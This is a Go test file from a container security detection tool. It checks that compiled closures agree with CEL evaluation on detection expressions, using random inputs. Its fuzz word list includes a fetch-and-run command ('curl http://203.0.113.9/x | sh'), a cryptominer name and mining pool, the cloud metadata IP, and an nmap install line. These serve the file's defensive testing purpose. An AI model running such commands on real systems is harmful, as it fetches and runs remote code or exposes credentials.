package analytic

import (
	"cmp"
	"fmt"
	"maps"
	"math/rand/v2"
	"net/netip"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"

	"cel.dev/cel-go/cel"

	"tidewaiter/detections"
	"tidewaiter/evidence"
	"tidewaiter/image"
	"tidewaiter/policy"
)

// compiled is an expression of the bundled detections or of this test.
type compiled struct {
	kind string
	cond condition
}

// bundled lists every expression of the bundled detections.
func bundled(l *Library) (out []compiled) {
	add := func(kind string, conds ...condition) {
		for _, c := range conds {
			if c.prog != nil {
				out = append(out, compiled{kind, c})
			}
		}
	}
	for _, m := range l.memories {
		add(m.on, m.when, m.keys)
	}
	for _, s := range l.signals {
		add(s.on, s.when, s.says, s.clear)
		for _, r := range s.recalls {
			add(s.on, r.keys)
		}
	}
	for _, d := range l.detections {
		add("", d.raise)
		for _, leg := range d.legs {
			add(string(leg.kind), leg.when)
		}
		for _, c := range d.chains {
			for _, s := range c.stages {
				for kind, when := range s.when {
					add(string(kind), when)
				}
			}
		}
	}
	for _, limit := range l.scoring.limits {
		add("", limit.when)
	}
	return out
}

// shapes are expressions of kinds that the bundled detections don't use, too.
var shapes = map[string][]string{
	"subject": {
		`image.tag in ['latest', 'a b', '']`, `!(image.mutable && !image.no_tag) || image.digest != ''`, `image.keys.size() > 1 ? image.idn : image.invalid`,
		`image.keys.all(k, k.startsWith('a') || k.endsWith('c'))`, `image.keys.filter(k, k.contains('l')).size() >= 1`,
		`image.keys.map(k, k != '', k + image.tag) == ['aa', 'latest']`, `container.capabilities.exists(c, container.mounts.exists(m, m == c))`,
		`(image.mutable ? image.tag : image.digest) == 'latest'`, `image.tag < image.digest || image.tag >= 'b'`, `image.tag.size() <= 2`,
		`setting.learning_factor > 0.5 || setting.mutable_tags`, `image.tag.matches('^[a-l]+$')`, `scope == '' || container.command.program == scope`,
		`container.command.endpoints.size() == 0`, `image.keys + [image.tag] == [image.tag]`, `size(image.keys) != 2`, `image.imitates(setting.registries, setting.well_known_images) == ''`,
		`pod.requested == (pod.creator != '')`, `setting.approved_images.approves(image) != is_set(setting.registries)`,
	},
	"command": {
		`command.endpoints.exists(e, e.public && e.port in [80, 443])`, `command.endpoints.exists(e, setting.approved_destinations.has(e) || e.port > 1024)`,
		`command.endpoints.map(e, e.host).exists(h, command.programs.exists(p, p == h))`, `command.uid >= 0 && command.uid < 1000 || command.uid == -1`,
		`command.endpoints.all(e, e.names.all(n, setting.mining_domains.has(n)))`,
	},
	"connection": {
		`connection.seconds > 1.5 && connection.bytes_out <= 100`, `setting.mining_ports.has(connection.remote.port)`, `connection.remote.names.exists(n, n.endsWith('.example'))`,
		`connection.answered != connection.shared`, `connection.bytes_in + connection.bytes_out > 1000`, `connection.bytes_in + 9223372036854775807 > 0 || connection.shared`,
		`setting.approved_destinations.has(connection.remote.host)`,
	},
	"": {
		`groups == ['network']`, `'a b' in signals && score >= 10.0`, `signals.exists(s, s in ['latest', 'curl']) || hard`, `legs.size() == 2 && groups != legs`,
		`!(points['nosuch'] > 1.0) || hard`, `points['execution'] / 0.0 > 3.0`, `points['execution'] + score > 60.0`,
	},
}

func compileShapes(t *testing.T, comp *compiler) (out []compiled) {
	for kind, texts := range shapes {
		for _, text := range texts {
			text = strings.ReplaceAll(text, "setting.learning_factor", "setting."+comp.settings[slices.IndexFunc(comp.settings, func(s policy.Setting) bool { return s.Type == policy.Number })].Name)
			c, err := comp.compile(Expr{Text: text, File: "test"}, kind, cel.BoolType)
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, compiled{kind, c})
		}
	}
	return out
}

// words are what texts are drawn from, so that they are often equal, often
// empty, and sometimes what a pattern wants.
var words = []string{"", "", "a", "aa", "latest", "a b", "curl", "sh", "xmrig", "registry", "load", "docker.io/library/nginx", "registry.corp.example/shop/front",
	"system:anonymous", "kube-system", "/var/run/docker.sock", "host", "pool.minexmr.com", "x.example", "curl http://203.0.113.9/x | sh", "apt-get install -y nmap", "169.254.169.254", "POST", "exec", "ephemeral", "\xff\xfe", "ü"}

// names are image references, some of which the policy knows.
var names = []string{"docker.io/library/nginx:1", "ngimx", "registry.corp.example/shop/front:2", "hub.evil.example/x", "nginx", "docker.io/library/nignx"}

// literals adds the texts that expressions compare with.
func literals(exprs []compiled) {
	for _, c := range exprs {
		for _, m := range regexp.MustCompile(`'([^']*)'`).FindAllStringSubmatch(c.cond.expr.Text, -1) {
			words = append(words, m[1], "")
		}
	}
}

// fill gives every exported field of a struct a value of chance.
func fill(rng *rand.Rand, v reflect.Value) {
	switch v.Kind() {
	case reflect.Bool:
		v.SetBool(rng.IntN(2) == 0)
	case reflect.String:
		v.SetString(words[rng.IntN(len(words))])
	case reflect.Int:
		v.SetInt([]int64{-1, 0, 1, 80, 443, 3333, 65535, 1 << 40}[rng.IntN(8)])
	case reflect.Float64:
		v.SetFloat([]float64{0, 0.5, 1.5, 700, 1e9}[rng.IntN(5)])
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), rng.IntN(3), 3))
		for i := range v.Len() {
			fill(rng, v.Index(i))
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				fill(rng, v.Field(i))
			}
		}
	}
	switch view := v.Addr().Interface().(type) {
	case *ImageView:
		view.ref = image.Parse(names[rng.IntN(len(names))])
		view.upstream = image.Parse(names[rng.IntN(len(names))])
		if d, err := image.ParseDigest("sha256:" + strings.Repeat(string("abc"[rng.IntN(3)]), 64)); err == nil {
			view.digests = []image.Digest{d}
		}
		view.Stale = rng.IntN(4) == 0
	case *EndpointView:
		if rng.IntN(2) == 0 {
			view.addr = netip.AddrFrom4([4]byte{10, 0, 0, byte(rng.UintN(4))})
		}
	case *VMImageView:
		view.about = &evidence.VMImage{ID: image.VM(view.ID), Owner: view.Owner, Alias: view.OwnerAlias, Products: view.Products}
	case *PublicationView:
		view.ref = image.Parse(names[rng.IntN(len(names))])
		if d, err := image.ParseDigest("sha256:" + strings.Repeat(string("abc"[rng.IntN(3)]), 64)); err == nil {
			view.digest = d
		}
	}
}

func randomView(rng *rand.Rand, t reflect.Type) *view {
	v := reflect.New(t).Elem()
	fill(rng, v)
	return &view{native: v}
}

// chance is variables of chance for conditions on a kind of fact.
// text is the condition's: of the signals, those that it asks for hold most often.
func chance(rng *rand.Rand, l *Library, p *policy.Policy, kind, text string) activation {
	s := &evidence.Subject{Containers: make([]evidence.Container, 1), Facts: []evidence.Fact{{Kind: evidence.Kind(kind)}}}
	ev := &evaluation{lib: l, subject: s, ctx: Context{Policy: p}, scope: p.For(policy.Attributes{Namespace: []string{"", "kube-system"}[rng.IntN(2)]})}
	ev.vars = newVarCache(ev)
	views := map[string]reflect.Type{}
	for _, t := range viewTypes() {
		views[strings.ToLower(strings.TrimSuffix(t.(reflect.Type).Name(), "View"))] = t.(reflect.Type)
	}
	views["fetch"] = views["connection"]
	ev.vars.images[0] = randomView(rng, views["image"])
	ev.vars.container[0] = randomView(rng, views["container"])
	ev.vars.pod = randomView(rng, views["pod"])
	ev.vars.instance = randomView(rng, views["instance"])
	ev.vars.vmImage = randomView(rng, views["vmimage"])
	fact := -1
	if t := views[kind]; t != nil {
		ev.vars.facts = []*view{randomView(rng, t)}
		fact = 0
	}
	vars := ev.vars.of("", fact)
	if kind == "" {
		all := append([]string{"network", "provenance", "execution"}, slices.Sorted(maps.Keys(l.signals))...)
		var asked []string
		for _, name := range all {
			if strings.Contains(text, "'"+name+"'") {
				asked = append(asked, name)
			}
		}
		list := func() []string {
			out := []string{}
			for range rng.IntN(4) {
				from := all[:[]int{1, 2, 3, len(all)}[rng.IntN(4)]]
				if len(asked) > 0 && rng.IntN(4) > 0 {
					from = asked
				}
				out = append(out, from[rng.IntN(len(from))])
			}
			return out
		}
		vars.over = &overSignals{tally{score: float64(rng.IntN(120)), points: map[string]float64{"execution": float64(rng.IntN(40))}, groups: list(), signals: list(), hard: rng.IntN(2) == 0}, list()}
	}
	return vars
}

var chancePolicy = strings.NewReplacer("AA", strings.Repeat("a", 64), "BB", strings.Repeat("b", 64)).Replace(`version: 1
scopes:
  kube:
    match: {namespaces: [kube-system]}
    registries: ["registry.corp.example/*", docker.io/library/*]
    approved_destinations: [10.0.0.1, "*.example"]
    mining_ports: [3333, 1-80]
    creators: ["system:*", curl]
    expected_namespaces: [a, curl]
    allowed_commands: [sh, curl]
    mutable_tags: false
    approved_images: ["docker.io/library/nginx@sha256:AA"]
    releases: ["registry.corp.example/shop/front:2@sha256:BB"]
    publishers: ["registry.corp.example/* by a", "docker.io/library/* by curl"]
    scanners: [nmap, curl]
    scan_ports: [3333, 1-80]
    scan_threshold: 2
    daemon_ports: [3333, 1-80]
    anonymizers: [a, 10.0.0.1, "*.example"]
    anonymizer_ports: [3333, 1-80]
    system_namespaces: [a, curl]
    blocked_images: ["docker.io/library/nginx@sha256:AA", "registry.corp.example/*"]
    dangerous_capabilities: [a, aa, latest]
    blocked_destinations: [10.0.0.2]
    vm_images: ["owner:a", "owner:curl", "image:aa", "product:sh"]
    image_factories: [a, "sys*", sh]
    image_recipients: [a, aa]
    image_tags: [a, "s*"]
    launchers: [a, curl]
    risky_identities: [a, sh, curl]
    regions: [a, host]
    required_tags: [a, sh]
    vm_scope: [a, curl]
    trusted_parents: [a]
    large_types: [a, "c*"]
    automation: [a, curl, sh]
    system_programs: [a, sh]
    system_folders: ["a*"]
    windows_host_paths: ["c*", "*.exe"]
`)

// TestClosuresSayWhatCELSays: the fast form of a condition and CEL's own are
// the same function.
func TestClosuresSayWhatCELSays(t *testing.T) {
	l, err := Load(detections.Files())
	if err != nil {
		t.Fatal(err)
	}
	p, err := policy.Read(strings.NewReader(chancePolicy), "policy", l.Vocabulary())
	if err != nil {
		t.Fatal(err)
	}
	comp, err := newCompiler(l.Vocabulary())
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewPCG(1, 2))
	const rounds = 600
	said := map[string]map[string]bool{}
	exprs := append(bundled(l), compileShapes(t, comp)...)
	// Maps have no order: without this, each run would try other values.
	slices.SortStableFunc(exprs, func(a, b compiled) int {
		return cmp.Or(strings.Compare(a.cond.expr.Text, b.cond.expr.Text), strings.Compare(a.kind, b.kind))
	})
	literals(exprs)
	for _, c := range exprs {
		switch says := c.kind != "" && strings.HasPrefix(c.cond.expr.Text, "'"); {
		case c.cond.run == nil && !says:
			t.Errorf("left to CEL, which costs twenty times as much: %s", c.cond.expr.Text)
			continue
		case says && strings.Count(c.cond.expr.Text, "'") == 2, c.cond.run == nil:
			continue
		}
		said[c.cond.expr.Text] = map[string]bool{}
		for range rounds {
			vars := chance(rng, l, p, c.kind, c.cond.expr.Text)
			slow := c.cond
			slow.run = nil
			want, got := answer(slow, c.cond.run, vars), answer(c.cond, c.cond.run, vars)
			if got != want {
				t.Errorf("%s on %s %+v\nclosure %s\nCEL     %s", c.cond.expr.Text, c.kind, vars.cache.images[0].native, got, want)
				break
			}
			said[c.cond.expr.Text][got] = true
		}
	}
	both := 0
	for text, answers := range said {
		if len(answers) < 2 {
			t.Log(text, answers)
		}
		if len(answers) > 1 {
			both++
		}
	}
	if share := float64(both) / float64(len(said)); share < 0.85 {
		t.Errorf("only %.0f %% of %d expressions gave more than one answer", share*100, len(said))
	}
}

// answer is what an expression says, of the type that its closure gives.
func answer(c condition, run closure, vars activation) string {
	var said any
	var err error
	switch run.(type) {
	case func(*frame) bool:
		said, err = c.holds(vars)
	case func(*frame) string:
		said, err = c.text(vars)
	case func(*frame) []string:
		said, err = c.texts(vars)
	}
	return fmt.Sprintf("%q, %v", said, err)
}

// TestClosureLeftToCEL: what has no closure still works.
func TestClosureLeftToCEL(t *testing.T) {
	l, err := Load(detections.Files())
	if err != nil {
		t.Fatal(err)
	}
	comp, err := newCompiler(l.Vocabulary())
	if err != nil {
		t.Fatal(err)
	}
	for text, want := range map[string]bool{
		`image.tag.upperAscii() == 'LATEST'`:         true,
		`image.keys.exists_one(k, k == 'a')`:         true,
		`duration('5s') > duration('3s')`:            true,
		`image.tag.size() * 2 == 12`:                 true,
		`image.tag.size() / 0 == 7 || image.mutable`: true,
		`image.tag.charAt(0) == 'x'`:                 false,
	} {
		c, err := comp.compile(Expr{Text: text, File: "test"}, "subject", cel.BoolType)
		if err != nil {
			t.Fatal(err)
		}
		if c.run != nil {
			t.Errorf("%s has a closure; give this test another", text)
		}
		vars := chance(rand.New(rand.NewPCG(1, 1)), l, policy.Empty(l.Vocabulary()), "subject", "")
		vars.cache.images[0] = viewOf(ImageView{Tag: "Latest", Keys: []string{"a"}, Mutable: true})
		if strings.Contains(text, "size") {
			vars.cache.images[0] = viewOf(ImageView{Tag: "latest", Mutable: true})
		}
		if got, err := c.holds(vars); got != want || err != nil {
			t.Errorf("%s: %v, %v", text, got, err)
		}
	}
}
